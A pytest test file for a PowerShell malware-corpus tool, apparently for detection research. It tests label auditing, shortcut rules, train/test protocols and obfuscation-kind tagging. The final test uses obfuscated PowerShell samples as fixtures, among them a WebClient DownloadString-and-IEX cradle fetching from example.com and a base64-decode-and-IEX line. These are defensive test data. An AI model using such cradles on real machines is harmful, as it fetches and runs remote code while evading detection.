"""Rules for dropping, shortcuts with known answers, and protocols that do not leak."""

import polars as pl
import pytest

from psembed import labels
from psembed.errors import CorpusError


def scripts(rows: list[dict]) -> pl.DataFrame:
    default = {
        "source": "a", "kind": "labelled", "stratum": "a", "repository_group": "", "family": "", "size": 10,
        "encoding": "ascii", "text": "x", "clean": "x", "part": "train",
    }  # fmt: skip
    numbered = ({"sha256": f"{n:064x}", "cluster": n, "group": n, **row} for n, row in enumerate(rows))
    table = [{**default, **row} for row in numbered]
    return pl.DataFrame(table, schema_overrides={"label": pl.Int8})


def test_every_rule_drops_what_it_names_and_nothing_else():
    audited = labels.audit(scripts([
        {"label": 1},
        {"label": 0},
        {"label": 0, "clean": ""},
        {"label": 0, "part": "aside"},
        {"label": 1, "cluster": 50},
        {"label": 0, "cluster": 50},
        {"label": 0, "cluster": 60},
        {"label": None, "kind": "offensive", "cluster": 60},
        {"label": 1, "cluster": 61},
        {"label": None, "kind": "offensive", "cluster": 61},
    ]))  # fmt: skip
    assert audited["dropped"].to_list() == [
        "", "", labels.DROP_EMPTY, labels.DROP_ASIDE, labels.DROP_CONFLICT, labels.DROP_CONFLICT,
        labels.DROP_OFFENSIVE, "",
    ]  # fmt: skip


@pytest.mark.parametrize("known", [[0, 0], [1], [None]])
def test_one_class_is_refused(known):
    with pytest.raises(CorpusError, match="two are needed"):
        labels.audit(scripts([{"label": label} for label in known]))


def test_overlap_counts_shared_clusters_once():
    table = scripts([
        {"label": 1, "stratum": "a", "cluster": 1}, {"label": 1, "stratum": "a", "cluster": 1},
        {"label": 1, "stratum": "b", "cluster": 1}, {"label": 1, "stratum": "b", "cluster": 2},
    ])  # fmt: skip
    assert labels.overlap(table).rows() == [("a malicious", "b malicious", 1, 2, 1)]


def test_one_line_rule_has_its_known_accuracy():
    table = scripts([
        {"label": 1, "text": "iex $x\r\n"}, {"label": 1, "text": "a\nb"},
        {"label": 0, "text": "a\r\nb"}, {"label": 0, "text": "a\nb\nc"}, {"label": 0, "text": "a\nb\nc"},
        {"label": None, "text": "a"},
    ])  # fmt: skip
    found = labels.shortcuts(table)
    assert found["all"] == found["a"]
    assert found["all"][0] == {
        "feature": "one_line", "rule": "one_line", "accuracy": 0.8, "balanced_accuracy": 0.75,
        "tpr": 0.5, "fpr": 0.0, "n": 5,
    }  # fmt: skip


def test_a_shortcut_is_turned_to_the_side_that_is_right():
    rule = labels.shortcuts(scripts([{"label": 1, "text": "a\nb"}, {"label": 0, "text": "a"}]))["all"][0]
    assert (rule["rule"], rule["accuracy"]) == ("not one_line", 1.0)


def wild_corpus() -> pl.DataFrame:
    parts = ("train", "validation", "test")
    clean = [{"label": 0, "kind": "benign", "source": "r", "part": part} for part in parts]
    known = [{"label": 1, "source": "old", "part": part} for part in parts]
    wild = [{"label": 1, "source": "wild", "part": part} for part in parts]
    copy = {"label": 1, "source": "wild", "part": "train", "cluster": 3, "group": 3}
    return labels.audit(scripts([*clean, *known, *wild, copy]))


def test_p2_trains_on_the_old_sources_and_tests_on_the_wild_one():
    samples = labels.protocols(wild_corpus(), wild_source="wild")
    assert samples["p1"].to_list() == ["train", "validation", "test"] * 3 + ["train"]
    assert samples["p2"].to_list() == [
        "train", "validation", "test", "train", "validation", "train", "test", "test", "test", "",
    ]  # fmt: skip
    assert samples["rank"].to_list() == [0] * 9 + [1]


def test_a_wild_source_that_is_not_there_is_named():
    with pytest.raises(CorpusError, match=r"'wide'.*choose one of"):
        labels.protocols(wild_corpus(), wild_source="wide")


def test_parts_keep_few_of_a_cluster_in_training_and_one_elsewhere():
    rows = [{"p1": part, "rank": rank} for part in ("train", "validation", "test") for rank in range(4)]
    found = labels.parts(pl.DataFrame(rows), "p1", per_cluster=3)
    assert {part: table.height for part, table in found.items()} == {"train": 3, "validation": 1, "test": 1}


def test_kinds_tell_the_three_hard_scripts_and_leave_plain_ones():
    texts = pl.Series([
        "&('{2}{0}{1}' -f 'b','c','a') 'hello'",
        "$c=New-Object Net.WebClient;IEX $c.('Downl'+'oadStr'+'ing').Invoke('http://example.com/a')",
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))",
        "Get-Service | Export-Csv services.csv",
    ])  # fmt: skip
    found = labels.kinds(texts)
    assert found["C22"].tolist() == [True, False, False, False]
    assert found["C23"].tolist() == [False, True, False, False]
    assert found["C24"].tolist() == [False, False, True, False]
